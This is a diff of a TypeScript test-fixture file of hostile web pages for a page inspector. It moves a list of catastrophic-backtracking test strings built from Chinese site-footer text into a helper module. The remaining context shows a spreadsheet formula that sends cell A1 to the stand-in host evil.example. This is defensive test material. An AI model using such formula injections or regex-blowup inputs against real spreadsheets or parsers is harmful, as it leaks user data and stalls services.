@@ -1,5 +1,9 @@
 import type { Cause } from '../../utils/messages';
+import { explosiveTexts } from '../helpers/explosive-texts';
 import { footer, html, NEWS } from './pages';
+
+/** As long as a browser lays out in reasonable time; the unit tests go further. Characters. */
+const EXPLOSIVE_TEXTS = explosiveTexts(20_000);
 
 /** A page made to hurt whoever reads it, and what the inspector must be told. */
 export interface HostilePage {
@@ -87,50 +91,6 @@ const DEEP = `
     while (deep.firstChild) deep = deep.firstChild;
   }
   deep.textContent = '底';`;
-
-/** As long as a paragraph is laid out in reasonable time; the unit tests go further. Characters. */
-const LONG = 20_000;
-const many = (text: string): string => text.repeat(Math.ceil(LONG / text.length));
-
-/** Text at which an expression that steps back would never end. One paragraph each. */
-export const EXPLOSIVE_TEXTS: readonly string[] = [
-  many('1'),
-  many(' '),
-  many('\u3000\u00a0'),
-  many('('),
-  many('〔2018〕'),
-  many('网站标识码'),
-  many('网站标识码：'),
-  many('网站标识码：1 '),
-  `网站标识码：${many('1 ')}`,
-  many('ICP'),
-  many('京ICP备'),
-  many('京ICP备1'),
-  `京ICP备${many('1')}`,
-  `京 I C P 备${many(' 1')}`,
-  many('公网安备'),
-  `京公网安备${many('1 ')}`,
-  many('京公网安备 11'),
-  many('主办'),
-  many('主办单位：'),
-  `主办单位：${many('某')}`,
-  `${many('某')}主办`,
-  many('联系电话：'),
-  `联系电话：${many('0')}`,
-  many('010-'),
-  many('2018-'),
-  many('2018年1月'),
-  many('2018-01-01 '),
-  many('发布时间'),
-  many('发布时间： '),
-  many('来源：'),
-  many('版权所有'),
-  many('copyright '),
-  many('a-'),
-  many('a@'),
-  many('a.'),
-  `http://${many('a.')}`,
-];
 
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"点击")',
